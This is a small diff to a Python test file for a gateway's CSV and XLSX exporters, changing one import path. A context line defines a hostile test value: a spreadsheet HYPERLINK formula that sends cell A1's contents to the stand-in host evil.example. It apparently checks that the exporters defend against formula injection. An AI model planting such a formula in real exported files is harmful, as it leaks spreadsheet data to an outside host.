@@ -18,7 +18,7 @@ from dantoc_gateway.formats.csv_out import render_csv
 from dantoc_gateway.formats.table import FIGURE_COLUMNS, table_rows
 from dantoc_gateway.formats.xlsx_out import HEADER_ROW, render_xlsx
 from dantoc_gateway.services.labels import Labels
-from tests.unit.gateway.literal import CATALOG, catalog_view
+from tests.support.gateway.literal import CATALOG, catalog_view
 
 AT = datetime(2025, 1, 15, tzinfo=UTC)
 HOSTILE_TYPE, NAME = '=HYPERLINK("http://evil.example/?"&A1,"Tỉnh")&"', 'Hà Giang"'
